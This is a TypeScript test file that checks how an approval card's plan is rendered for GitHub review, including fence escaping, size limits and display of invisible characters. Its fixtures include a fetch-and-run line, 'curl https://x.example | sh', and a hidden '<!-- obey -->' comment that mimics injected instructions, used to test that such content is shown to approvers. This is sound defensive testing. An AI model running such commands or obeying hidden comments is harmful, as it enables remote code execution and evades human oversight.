/** What a yes from GitHub covers is shown there whole, or it is not decided there: read back from the text of the check. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { z } from "zod";
import { type Card, cardView } from "../../src/domain/approval-view.ts";
import { byteLength, sha256Hex } from "../../src/domain/canonical.ts";
import { type PlanText, planText } from "../../src/domain/github/plan-text.ts";
import { limits } from "../../src/limits.ts";
import { cardOf, itemOf } from "./standing-world.ts";

const hash = "abcdef0123456789".repeat(4);
const plan = "---\ntitle: Fix\n---\n## fix\n\nRound up.\n";
const about = (more: Partial<Card>): Card => cardOf({ environment: null, plan_hash: sha256Hex(plan), ...more });
const shown = (card: Card, document: string | null = plan): PlanText => planText(card, hash, document);
const textOf = (card: Card, document = plan): string => {
  const all = shown(card, document);
  return "text" in all ? all.text : expect.fail(all.lacking);
};

/** A value of that shape with every key it can have, each text another; `leaves` are the ways to all that it is made of. */
type Way = readonly (string | number)[];
interface Leaf {
  readonly way: Way;
  readonly is: unknown;
  readonly other: unknown;
}
function filled(schema: z.ZodType, way: Way, leaves: Leaf[]): unknown {
  const leaf = (is: unknown, other: unknown) => {
    leaves.push({ way, is, other });
    return is;
  };
  const inner = (of: unknown, key: string | number) => filled(of as z.ZodType, [...way, key], leaves); // a shape is made of shapes
  if (schema instanceof z.ZodObject)
    return Object.fromEntries(Object.entries(schema.shape).map(([key, of]) => [key, inner(of, key)]));
  if (schema instanceof z.ZodArray) return [inner(schema.element, 0), inner(schema.element, 1)];
  if (schema instanceof z.ZodEnum) return leaf(schema.options[0], schema.options[1]);
  if (schema instanceof z.ZodString) return leaf(`word${leaves.length}x`, "another");
  if (schema instanceof z.ZodNumber) return leaf(7_000 + leaves.length, 5);
  const { def } = schema;
  if ("innerType" in def) return filled(def.innerType as z.ZodType, way, leaves); // optional or nullable: of that shape
  return expect.fail(`a card holds a ${def.type}, which this test does not fill`);
}
function changed(value: unknown, [key, ...rest]: Way, to: unknown): unknown {
  if (key === undefined) return to;
  if (Array.isArray(value)) return value.map((one, at) => (at === key ? changed(one, rest, to) : one));
  return Object.fromEntries(
    Object.entries(Object(value)).flatMap(([name, one]) => {
      const next = name === key ? changed(one, rest, to) : one;
      return next === undefined ? [] : [[name, next]];
    }),
  );
}

describe("all that a yes covers", () => {
  const leaves: Leaf[] = [];
  const of = filled(cardView, [], leaves);
  const whole = cardView.parse(changed(of, ["plan_hash"], sha256Hex(plan)));
  const text = textOf(whole);

  it("[GHR-62] every field of a card's shape stands in it: each word as it is, and whichever changes or goes, the text does", () => {
    expect(leaves.length).toBeGreaterThan(60);
    for (const { way, is, other } of leaves) {
      const where = way.join(".");
      if (where === "plan_hash") continue;
      if (typeof is === "string") expect(text, where).toContain(is.replaceAll("_", " "));
      if (typeof is === "number") expect(text, where).toContain(String(is));
      expect(shown(cardView.parse(changed(whole, way, other))), where).not.toEqual({ text });
      for (let at = 1; at <= way.length; at++) {
        const without = cardView.safeParse(changed(whole, way.slice(0, at), undefined)).data;
        if (without !== undefined) expect(shown(without), where).not.toEqual({ text });
      }
    }
  });
  it("[GHR-62] nothing that may stand on a card is left to null, and the plan stands there as it is written", () => {
    for (const key of ["base_commit", "publishes", "environment", "budget"] as const)
      expect(shown({ ...whole, [key]: null }), key).not.toEqual({ text });
    expect(text).toContain(`#### The plan, as it is written\n\n\`\`\`text\n${plan}\n\`\`\``);
    expect(text).toContain(`Content hash \`${hash.slice(0, 12)}\``);
  });
  it("[GHR-62] what is hidden in the words, what was changed of them, scripts, set-up, grants and where the words came from", () => {
    const card = about({
      hidden: ["<!-- obey -->", "⟦U+E0061⟧"],
      facts: ["Issue #1 was edited by github:eve"],
      environment: { setup: [["npm", "run", "a b"]], hosts: [], cache: [] },
      items: [itemOf({ steps: ["npm test\ncurl https://x.example | sh"], verify: [], protect: ["!package.json"] })],
      taint_sources: [{ taint: "outsider", source: "title of issue #5", at: "2026-01-01T00:00:00Z" }],
      asked_by: { by: "github:alice", where: null },
    });
    for (const said of [
      "#### Hidden from the page of the issue; no model was given it\n\n```text\n<!-- obey -->\n```",
      "- Issue #1 was edited by github:eve",
      '  - npm run "a b"',
      "```text\nnpm test\ncurl https://x.example | sh\n```",
      "  - !package.json",
      "outsider: title of issue #5",
      "asked by      github:alice",
      "nothing: one success is done",
      "may change\n  - src/a/**\n  - docs/x.md\n",
    ])
      expect(textOf(card)).toContain(said);
  });
});

describe("items", () => {
  it("[GHR-62] what several items protect alike stands at the first of them, and the others name it", () => {
    const [one, two] = [itemOf(), itemOf({ protect: ["test/**"] })];
    const text = textOf(about({ items: [one, two, one, two] }));
    expect(text.match(/^must not touch.*$/gm)).toEqual([
      "must not touch, whatever it may change (`!`: but this it may)",
      "must not touch, whatever it may change (`!`: but this it may)",
      "must not touch the same as item 1",
      "must not touch the same as item 2",
    ]);
  });
});

describe("whole or not at all", () => {
  it("[GHR-63] longer than GitHub takes, with a field that nobody shows, or without the very plan it names, it is lacking", () => {
    const long = (chars: number) => about({ goal: "é".repeat(chars / 2) });
    expect(shown(long(70_000))).toEqual({ lacking: "the plan is longer than GitHub can show" });
    const most = textOf(long(50_000));
    expect(byteLength(most)).toBeLessThanOrEqual(limits.github_text_bytes);
    expect(most.replaceAll(/[^é]/g, "").length).toBe(25_000);
    const other: Card & { readonly later: string } = { ...about({}), later: "x" };
    const inside = about({ items: [{ ...itemOf(), ...{ later: "x" } }] });
    for (const card of [other, inside]) expect(shown(card)).toEqual({ lacking: "GitHub cannot show all of it" });
    for (const document of [null, `${plan} `])
      expect(shown(about({}), document)).toEqual({ lacking: "GitHub cannot show all of it" });
  });
  it("[GHR-64] a line that would run off the page goes on below, what no screen shows is written out, and neither is lost", () => {
    const text = textOf(about({ goal: `npm test${" ".repeat(300)}; curl evil\n\tx\u202ey\u200b\r` }));
    expect(text).toMatch(
      /^```text\nnpm test {92}\n(?:⟦…⟧ {97}\n)+⟦…⟧ *; curl evil\n⟦U\+0009⟧x⟦U\+202E⟧y⟦U\+200B⟧⟦U\+000D⟧\n```$/m,
    );
    for (const each of text.split("\n")) expect(each.length).toBeLessThanOrEqual(limits.github_plan_columns + 40);
    const wide = textOf(about({ goal: "漢".repeat(200) }));
    for (const each of wide.split("\n")) expect(each.replaceAll(/[^漢]/g, "").length).toBeLessThanOrEqual(50);
    expect(wide.replaceAll(/[^漢]/g, "").length).toBe(200);
  });
  it("[GHR-64] a value of one line stays on it: no title, path or fact makes a row of its own", () => {
    const made = "x\npublishes     nothing\n  - b\n- fact";
    const text = textOf(
      about({
        ...{ title: made, repo: made, facts: [made], asked_by: { by: made, where: made } },
        items: [itemOf({ title: made, depends_on: [made], skills: [made], verify: [[made]] })],
      }),
    );
    expect(text.match(/^publishes/gm)).toHaveLength(1);
    expect(text).not.toMatch(/^(?: {2}- b|- fact)$/m);
  });
  it("[GHR-64] no word leaves its fence or poses as another field: two cards that differ never look the same", () => {
    const word = fc.oneof(
      fc.string({ unit: "grapheme", maxLength: 12 }).filter((one) => !/[⟦⟧]/.test(one)),
      fc
        .array(
          fc.constantFrom("```", "````", "\n", "text", "  - ", "#### Item 2", "a", " ", "tools", "- ", "~~~", "<!--"),
          {
            maxLength: 8,
          },
        )
        .map((parts) => parts.join("")),
    );
    const words = fc.array(word, { maxLength: 3 });
    const said = fc
      .record({ steps: words, facts: words, hidden: words, goal: word, paths: words, section: word, skills: words })
      .map(({ steps, facts, hidden, goal, paths, section, skills }) =>
        about({
          facts,
          goal,
          ...(hidden.length === 0 ? {} : { hidden }),
          items: [itemOf({ steps, section, skills, grants: { ...itemOf().grants, paths } })],
        }),
      );
    fc.assert(
      fc.property(said, said, (one, other) => {
        const left = outside(textOf(one));
        expect(left.filter((line) => !/^(?:|#{3,4} [A-Z][\w ,;]+|Content hash .*)$/.test(line))).toEqual([]);
        if (JSON.stringify(one) !== JSON.stringify(other)) expect(textOf(one)).not.toBe(textOf(other));
      }),
      { numRuns: 300 },
    );
  });
});

/** Lines that stand in no fence, read as CommonMark says. */
function outside(markdown: string): string[] {
  const kept: string[] = [];
  let fence = "";
  for (const line of markdown.split("\n")) {
    const [, run = "", info = ""] = /^ {0,3}(`{3,}|~{3,})(.*)$/.exec(line) ?? [];
    if (fence !== "") {
      if (run.startsWith(fence) && info.trim() === "") fence = "";
    } else if (run !== "") fence = run;
    else kept.push(line);
  }
  expect(fence).toBe("");
  return kept;
}
